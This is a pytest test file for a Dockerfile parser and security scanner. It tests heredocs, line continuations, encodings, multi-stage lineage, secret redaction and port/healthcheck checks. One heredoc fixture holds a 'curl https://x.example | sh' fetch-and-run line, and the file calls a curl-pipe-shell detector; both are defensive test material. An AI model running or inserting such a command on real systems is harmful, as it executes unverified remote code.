"""The Dockerfile parser on awkward input, and rule behaviour the catalog examples cannot show.

Parser tests read real files from disk, the way the scan does, because line
endings and encodings are exactly what can differ between a string literal
and a file.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analyzer.core.model import SourceFile
from analyzer.parsers import ParseError
from analyzer.parsers.dockerfile import Dockerfile, parse
from analyzer.pipeline.scan import scan
from tests.conftest import write_tree


def _parse_file(tmp_path: Path, content: str | bytes, name: str = "Dockerfile") -> Dockerfile:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_bytes(content.encode("utf-8"))
    text = path.read_bytes().decode("utf-8", errors="replace")
    return parse(SourceFile(name, "dockerfile", text))


def test_continuations_are_joined_and_keep_their_lines(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "FROM python:3.12-slim\n"
        "RUN apt-get update \\\n"
        "    # a comment inside the continuation is dropped\n"
        "\n"
        " && pip install \\\n"
        "      fastapi\n"
        'CMD ["python"]\n',
    )
    run = df.instructions[1]
    assert run.keyword == "RUN"
    assert (run.line, run.end_line) == (2, 6)
    assert "comment" not in run.args
    assert run.args.split() == ["apt-get", "update", "&&", "pip", "install", "fastapi"]
    assert run.position(run.args.index("fastapi")) == (6, 7)
    assert df.instructions[2].line == 7


def test_keywords_are_case_insensitive_and_indented_instructions_have_their_column(
    tmp_path: Path,
) -> None:
    df = _parse_file(tmp_path, "from python:3.12 as Build\n   run echo hi\n")
    assert [i.keyword for i in df.instructions] == ["FROM", "RUN"]
    assert df.instructions[1].column == 4
    assert df.stages[0].name == "build"


def test_escape_directive_switches_the_continuation_character(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "# escape=`\n"
        "FROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
        "RUN dir c:\\ `\n"
        "    && echo done\n"
        "COPY app c:\\app\\\n",
    )
    assert df.escape == "`"
    run = df.instructions[1]
    assert (run.line, run.end_line) == (3, 4)
    assert run.args.startswith("dir c:\\")
    assert df.instructions[2].keyword == "COPY"  # the trailing backslash did not continue it


def test_a_directive_after_a_comment_is_only_a_comment(tmp_path: Path) -> None:
    df = _parse_file(tmp_path, "# build me\n# escape=`\nFROM alpine:3.20\nRUN echo a \\\n  b\n")
    assert df.escape == "\\"
    assert df.instructions[1].args.split() == ["echo", "a", "b"]


def test_heredoc_bodies_are_not_instructions(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "# syntax=docker/dockerfile:1\n"
        "FROM python:3.12-slim\n"
        "RUN <<EOF\n"
        "FROM evil:latest\n"
        "curl https://x.example | sh\n"
        "EOF\n"
        "COPY <<-CONF /etc/app.conf\n"
        "\tkey = value\n"
        "\tCONF\n"
        "USER app\n",
    )
    assert [i.keyword for i in df.instructions] == ["FROM", "RUN", "COPY", "USER"]
    run, copy = df.instructions[1], df.instructions[2]
    assert run.heredocs == ("FROM evil:latest\ncurl https://x.example | sh",)
    assert (run.line, run.end_line) == (3, 6)
    assert run.script_position(run.script().index("curl")) == (5, 1)
    assert copy.heredocs == ("key = value",)
    assert df.instructions[3].line == 10
    assert len(df.stages) == 1


def test_unterminated_heredoc_is_a_partial_error_not_a_crash(tmp_path: Path) -> None:
    df = _parse_file(tmp_path, "FROM alpine:3.20\nRUN <<EOF\necho hi\n")
    assert df.instructions[-1].heredocs == ("echo hi\n",)
    assert any("not terminated" in reason for _, reason in df.errors)


def test_here_strings_and_shifts_are_not_heredocs(tmp_path: Path) -> None:
    df = _parse_file(tmp_path, "FROM alpine:3.20\nRUN cat <<<word && echo $((1<<2))\nUSER app\n")
    assert [i.keyword for i in df.instructions] == ["FROM", "RUN", "USER"]
    assert df.instructions[1].heredocs == ()


def test_exec_form_and_shell_form(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "FROM python:3.12-slim\n"
        'ENTRYPOINT ["tini", "--"]\n'
        'CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]\n'
        'RUN --mount=type=cache,target=/root/.cache ["pip", "install", "-r", "r.txt"]\n'
        "CMD ['single', 'quotes']\n"
        "CMD [broken\n",
    )
    entry, cmd, run, single, broken = df.instructions[1:]
    assert entry.exec_form == ("tini", "--")
    assert cmd.words() == ["uvicorn", "app:app", "--host", "0.0.0.0"]
    assert run.flag("mount") == "type=cache,target=/root/.cache"
    assert run.exec_form == ("pip", "install", "-r", "r.txt")
    assert single.exec_form is None  # Docker runs it through a shell, and so do we
    assert broken.exec_form is None and broken.words() == ["[broken"]


def test_crlf_line_endings(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "FROM python:3.12-slim AS app\r\nENV A=1 \\\r\n    B=2\r\nUSER app\r\n",
    )
    env = df.instructions[1]
    assert "\r" not in env.args
    assert (env.line, env.end_line) == (2, 3)
    assert df.stages[0].name == "app"
    assert df.instructions[2].args == "app"


def test_byte_order_mark_is_ignored(tmp_path: Path) -> None:
    df = _parse_file(tmp_path, "\ufeffFROM alpine:3.20\n")
    assert df.instructions[0].keyword == "FROM"


def test_stages_lineage_and_global_args(tmp_path: Path) -> None:
    df = _parse_file(
        tmp_path,
        "ARG PY=3.12\n"
        "FROM python:${PY}-slim AS base\n"
        "RUN useradd app\n"
        "FROM base AS build\n"
        "RUN make\n"
        "FROM python:${PY}-slim\n"
        "FROM build AS final\n"
        "USER app\n",
    )
    assert [s.name for s in df.stages] == ["base", "build", None, "final"]
    assert [i.args for i in df.global_args] == ["PY=3.12"]
    assert [s.index for s in df.lineage(df.final_stage)] == [3, 1, 0]
    assert df.stages[1].of("RUN")[0].stage == 1


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("", "no instructions"),
        ("\n\n   \n", "no instructions"),
        ("# only a comment\n# and another\n", "no instructions"),
        ("# syntax=docker/dockerfile:1\n", "no instructions"),
        ('RUN echo hi\nCMD ["x"]\n', "no FROM"),
        ("ARG A=1\n", "no FROM"),
        ("hello world\nthis is not\na dockerfile at all\nFROM x:1\n", "not a Dockerfile"),
        ('{"json": true}\n', "not a Dockerfile"),
    ],
)
def test_files_that_are_not_dockerfiles_raise_a_clear_parse_error(
    tmp_path: Path, content: str, reason: str
) -> None:
    with pytest.raises(ParseError) as err:
        _parse_file(tmp_path, content)
    assert reason in err.value.reason


def test_binary_content_raises_parse_error(tmp_path: Path) -> None:
    with pytest.raises(ParseError, match="binary"):
        _parse_file(tmp_path, b"\x7fELF\x02\x01\x01\x00\x00\x00FROM x\n")
    with pytest.raises(ParseError, match="binary"):
        _parse_file(tmp_path, bytes(range(1, 32)) * 20)


def test_an_unknown_instruction_is_a_partial_error(tmp_path: Path) -> None:
    df = _parse_file(tmp_path, "FROM alpine:3.20\nRUNN echo typo \\\n  continued\nUSER app\n")
    assert [i.keyword for i in df.instructions] == ["FROM", "USER"]
    assert df.errors == ((2, "unknown instruction 'RUNN'"),)


def test_scan_notes_unparseable_dockerfiles_and_keeps_going(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "Dockerfile": b"\x00\x01\x02binary\x00",
            "api.Dockerfile": "# nothing here yet\n",
            "worker.Dockerfile": "FROM python\n",
        },
    )
    result = scan(tmp_path)
    by_path = {(f.path, f.code) for f in result.findings}
    assert ("Dockerfile", "PR001") in by_path
    assert ("api.Dockerfile", "PR001") in by_path
    assert ("worker.Dockerfile", "DF002") in by_path


dockerish = st.lists(
    st.sampled_from(
        [
            "FROM python:3.12 AS b",
            "FROM b",
            "RUN echo \\",
            "RUN <<EOF",
            "EOF",
            "<<-X",
            "\t",
            'CMD ["a", "b"]',
            "CMD [",
            "USER root",
            'ENV A="b c" D',
            "ARG X=${Y:-z}",
            "# escape=`",
            "`",
            "\\",
            "#",
            "",
            "HEALTHCHECK NONE",
            "ADD https://a /b",
            "\r",
            "COPY --from=0 / /",
            "ENV",
            "FROM ${X}",
            "ONBUILD RUN x",
            "\u2028",
            "ü",
            "\x0c",
        ]
    ),
    max_size=25,
).map("\n".join)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(dockerish, st.text(max_size=300)))
def test_parser_never_crashes(text: str) -> None:
    from analyzer.checks import dockerfile as checks
    from analyzer.checks.dockerfile_packages import unpinned_package_install

    try:
        df = parse(SourceFile("Dockerfile", "dockerfile", text))
    except ParseError as err:
        assert err.reason
        return
    for ins in df.instructions:
        assert 1 <= ins.line <= ins.end_line
        ins.words()
        ins.script_position(len(ins.script()))
    for fn in (
        checks.runs_as_root, checks.unpinned_base_image, checks.literal_secret_in_env_or_arg,
        checks.secret_build_arg, checks.add_remote_url, checks.curl_pipe_shell,
        checks.reload_in_command, checks.debug_in_image, unpinned_package_install,
        checks.api_and_worker_together,
    ):  # fmt: skip
        list(fn(df))


def test_a_dockerfile_of_2000_stages_parses(tmp_path: Path) -> None:
    """Its time is measured by bench/timings.py."""
    body = "FROM python:3.12-slim AS s{i}\nRUN pip install a==1 \\\n  b==2 && echo {i}\n"
    content = "".join(body.format(i=i) for i in range(2000))
    df = _parse_file(tmp_path, content)
    assert len(df.stages) == 2000


def test_secret_values_never_reach_the_output(tmp_path: Path) -> None:
    secret = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
    write_tree(
        tmp_path,
        {
            "Dockerfile": (
                f"FROM python:3.12-slim\nENV STRIPE_API_KEY={secret}\n"
                f"ADD https://deploy:{secret}@files.example.com/a.tgz /a\n"
            )
        },
    )
    result = scan(tmp_path)
    codes = {f.code for f in result.findings}
    assert {"DF004", "DF006"} <= codes
    dumped = json.dumps([f.__dict__ for f in result.findings], default=str)
    assert secret not in dumped


def test_fingerprints_survive_unrelated_line_shifts(tmp_path: Path) -> None:
    original = "FROM python:latest\nENV TOKEN=9f8e7d6c5b4a39281706f5e4d3c2b1a0\n"
    write_tree(tmp_path / "a", {"Dockerfile": original})
    write_tree(tmp_path / "b", {"Dockerfile": "# a new comment\n\n" + original})
    first = {(f.code, f.fingerprint) for f in scan(tmp_path / "a").findings}
    second = {(f.code, f.fingerprint) for f in scan(tmp_path / "b").findings}
    assert first == second
    assert {"DF001", "DF002", "DF004"} <= {code for code, _ in first}


def test_inline_ignore_comment_in_a_dockerfile(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "Dockerfile": (
                "# prodready: ignore[DF002] the internal mirror only serves latest\n"
                "FROM registry.internal/python\n"
                "USER app\n"
            )
        },
    )
    found = [f for f in scan(tmp_path).findings if f.code == "DF002"]
    assert len(found) == 1 and found[0].suppression


def test_dev_dockerfiles_are_not_judged_for_dev_server_flags(tmp_path: Path) -> None:
    text = (
        "FROM python:3.12-slim\nUSER app\n"
        'CMD ["uvicorn", "app:app", "--reload", "--log-level", "debug"]\n'
    )
    write_tree(tmp_path, {"Dockerfile": text, "Dockerfile.dev": text, "dev.Dockerfile": text})
    hits = {(f.path, f.code) for f in scan(tmp_path).findings if f.code in ("DF008", "DF009")}
    assert hits == {("Dockerfile", "DF008"), ("Dockerfile", "DF009")}


def test_compose_build_with_a_custom_dockerfile_path_counts_as_healthchecked(
    tmp_path: Path,
) -> None:
    write_tree(
        tmp_path,
        {
            "docker/api.Dockerfile": (
                'FROM python:3.12-slim\nEXPOSE 8000\nCMD ["uvicorn", "a:app", "--workers", "2"]\n'
            ),
            "deploy/docker-compose.yml": (
                "services:\n"
                "  api:\n"
                "    build: {context: .., dockerfile: docker/api.Dockerfile}\n"
                "    healthcheck: {test: [CMD, curl, -f, http://localhost:8000/health]}\n"
            ),
        },
    )
    assert not [f for f in scan(tmp_path).findings if f.code == "DF003"]


# --------------------------------------------------------------------------- the image's command

APP = 'from fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.get("/health")\ndef health() -> dict:\n    return {}\n'


def _judged(root: Path, *codes: str) -> set[tuple[str, str, int | None]]:
    return {(f.code, f.path, f.line) for f in scan(root).findings if f.code in codes}


def test_every_reader_sees_the_command_the_final_stage_inherits(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "app/main.py": APP,
            "Dockerfile": (
                "FROM python:3.12-slim AS base\n"
                "WORKDIR /app\n"
                'CMD ["gunicorn", "app.main:app", "--workers", "9", "--bind", "0.0.0.0:8080"]\n'
                "\n"
                "FROM base AS final\n"
                "COPY . /app\n"
            ),
            "docker-compose.yml": (
                "services:\n  api:\n    build: .\n    cpus: 1\n    healthcheck:\n"
                '      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]\n'
            ),
        },
    )
    assert _judged(tmp_path, "API018", "API019", "DF010") == {
        ("API018", "docker-compose.yml", 6),
        ("API019", "Dockerfile", 3),
    }
    workers = [e for e in scan(tmp_path).evidence if e.item_id == "BACKEND-5"]
    assert [(e.path, e.line) for e in workers] == [("Dockerfile", 3)]


def test_a_later_entrypoint_drops_the_inherited_cmd(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "Dockerfile": (
                "FROM python:3.12-slim AS base\n"
                'CMD ["uvicorn", "app.main:app", "--reload"]\n'
                "FROM base\n"
                'ENTRYPOINT ["/docker-entrypoint.sh"]\n'
            ),
        },
    )
    assert _judged(tmp_path, "DF008", "DF010") == set()


def test_a_manifest_command_is_appended_to_the_image_entrypoint(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "app/main.py": APP,
            "Dockerfile": 'FROM python:3.12-slim\nENTRYPOINT ["uvicorn", "app.main:app"]\n',
            "docker-compose.yml": (
                'services:\n  api:\n    build: .\n    command: ["--port", "9000"]\n'
                "    healthcheck:\n"
                '      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]\n'
            ),
            "k8s/api.yaml": (
                "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: api}\nspec:\n"
                "  template:\n    spec:\n      containers:\n        - name: api\n"
                "          image: ghcr.io/acme/api:1.0.0\n"
                '          args: ["--port", "9001"]\n'
                "          readinessProbe: {httpGet: {path: /health, port: 8000}}\n"
            ),
        },
    )
    found = {(f.code, f.path, f.line): f.message for f in scan(tmp_path).findings}
    assert "listens on port 9000" in found["API018", "docker-compose.yml", 6]
    assert "listens on port 9001" in found["API018", "k8s/api.yaml", 11]


def test_containers_of_another_image_are_not_given_the_only_dockerfile(tmp_path: Path) -> None:
    deployment = (
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: {name}}}\nspec:\n"
        "  template:\n    spec:\n      containers:\n        - name: {name}\n"
        "          image: ghcr.io/acme/{name}:1.0.0\n"
        "          readinessProbe: {{httpGet: {{path: /health, port: {port}}}}}\n"
    )
    files = {
        "app/main.py": APP,
        "Dockerfile": 'FROM python:3.12-slim\nCMD ["uvicorn", "app.main:app", "--port", "8000"]\n',
        "k8s/api.yaml": deployment.format(name="api", port=8080),
    }
    write_tree(tmp_path, files)
    assert _judged(tmp_path, "API018") == {("API018", "k8s/api.yaml", 10)}
    # a second image of the team's own: either container may be the one built here
    write_tree(tmp_path, {"k8s/web.yaml": deployment.format(name="web", port=80)})
    assert _judged(tmp_path, "API018") == set()
